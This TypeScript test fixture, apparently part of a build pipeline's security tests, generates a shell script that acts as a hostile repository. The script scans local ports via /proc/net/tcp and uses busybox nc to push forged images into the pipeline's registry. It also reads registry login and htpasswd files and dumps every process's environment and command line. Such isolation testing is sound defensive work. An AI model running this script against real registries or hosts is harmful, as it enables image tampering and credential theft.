/**
 * Hostile repository content for test/hostile/registry-login.test.ts: a shell script that, from
 * a prebuild (network on) or a Dockerfile `RUN` (buildah's chroot isolation shares the host's
 * network), finds the registry ccp started on 127.0.0.1 and tries to read it and push into it,
 * and looks for its login where an attacker would. It reports as `REGATTACK <where> name=value`.
 */

const quote = (text: string): string => `'${text.replace(/'/g, `'\\''`)}'`;

/** The repositories the attack plants or overwrites. */
export const ATTACK_TARGETS = { victim: 'hostile/victim', planted: 'hostile/planted' } as const;

/**
 * The attack: raw HTTP over `$NC` (busybox nc; the image has it as `nc`, the prebuild's read-only
 * system as `busybox nc`), so no client of the pipeline's is needed. Listening ports come from
 * `/proc/net/tcp` (the host's network namespace); a registry is one whose `GET /v2/_catalog`
 * answers with `Docker-Distribution-Api-Version`. It pushes only into one that is ccp's: open and
 * listing `hostile/victim`, or asking for a Basic login of realm "ccp" (so that no other
 * registry on the host gets anything): a config blob, then a manifest over `hostile/victim:latest`
 * and a new `hostile/planted:latest`.
 */
export function registryAttack(dataDir: string): string {
  const reads = [`${dataDir}/registry/login.json`, `${dataDir}/registry/htpasswd`, `${dataDir}/work/builds`, `/proc/1/root${dataDir}/registry/login.json`];
  return `#!/bin/sh
where=$1
NC=\${NC:-nc}
say() { echo "REGATTACK $where $*"; }
req() {
  len=0; [ -n "$5" ] && len=$(wc -c < "$5")
  { printf '%s %s HTTP/1.1\\r\\nHost: 127.0.0.1:%s\\r\\nContent-Type: %s\\r\\nContent-Length: %s\\r\\nConnection: close\\r\\n\\r\\n' "$2" "$3" "$1" "$4" "$len"; [ -n "$5" ] && cat "$5"; } | $NC -w 3 127.0.0.1 "$1" 2>/dev/null
}
status() { head -1 | awk '{print $2}'; }
work=/tmp/regattack-$$
mkdir -p "$work"
printf '%s' '{"architecture":"amd64","os":"linux","rootfs":{"type":"layers","diff_ids":[]},"config":{"Labels":{"planted":"yes"}}}' > "$work/config.json"
digest=sha256:$(sha256sum "$work/config.json" | cut -d' ' -f1)
size=$(wc -c < "$work/config.json")
printf '{"schemaVersion":2,"mediaType":"application/vnd.oci.image.manifest.v1+json","config":{"mediaType":"application/vnd.oci.image.config.v1+json","digest":"%s","size":%s},"layers":[]}' "$digest" "$size" > "$work/manifest.json"
upload() {
  started=$(req "$1" POST "/v2/$2/blobs/uploads/" application/octet-stream "")
  location=$(printf '%s\n' "$started" | tr -d '\r' | awk 'tolower($1) == "location:" { print $2 }' | sed 's,^https*://[^/]*,,')
  if [ -z "$location" ]; then printf '%s\n' "$started" | status; return 0; fi
  case "$location" in *\\?*) location="$location&digest=$digest" ;; *) location="$location?digest=$digest" ;; esac
  req "$1" PUT "$location" application/octet-stream "$work/config.json" | status
}
probe() {
  answer=$(req "$1" GET /v2/_catalog text/plain "")
  case "$answer" in *[Dd]ocker-[Dd]istribution-[Aa]pi-[Vv]ersion*) ;; *) return 0 ;; esac
  code=$(printf '%s\\n' "$answer" | status)
  if [ "$code" = 200 ] && printf '%s' "$answer" | grep -q '${ATTACK_TARGETS.victim}'; then :
  elif [ "$code" = 401 ] && printf '%s' "$answer" | grep -qi 'realm="ccp"'; then :
  else return 0; fi
  blob=$(upload "$1" ${ATTACK_TARGETS.planted})
  upload "$1" ${ATTACK_TARGETS.victim} >/dev/null
  victim=$(req "$1" PUT /v2/${ATTACK_TARGETS.victim}/manifests/latest application/vnd.oci.image.manifest.v1+json "$work/manifest.json" | status)
  planted=$(req "$1" PUT /v2/${ATTACK_TARGETS.planted}/manifests/latest application/vnd.oci.image.manifest.v1+json "$work/manifest.json" | status)
  say "127.0.0.1:$1 catalog=$code blob=$blob victim=$victim planted=$planted"
}
for hex in $(awk '$4 == "0A" && $2 ~ /^0100007F:/ { print substr($2, 10) }' /proc/net/tcp); do
  probe $((0x$hex)) &
done
wait
for target in ${reads.map(quote).join(' ')}; do
  if ls "$target" >/dev/null 2>&1; then say "read:$target=visible"; cat "$target" 2>/dev/null; ls "$target" 2>/dev/null; else say "read:$target=absent"; fi
done
echo "--- environ and command lines"
cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n'
rm -rf "$work"
say done=yes
`;
}

/** The prebuild of the base image: a busybox root filesystem (with nc for the RUN attack), after the attack. */
export const BASE_PREBUILD = `#!/bin/sh
set -u
NC="busybox nc" sh ./attack.sh prebuild
rm -rf rootfs rootfs.tar
mkdir -p rootfs/bin rootfs/tmp
cp "$(command -v busybox)" rootfs/bin/busybox
for applet in sh ls cat echo printf mkdir rm wc awk head cut grep sed tr nc sha256sum true; do ln -s busybox "rootfs/bin/$applet"; done
tar -C rootfs -cf rootfs.tar .
rm -rf rootfs
`;
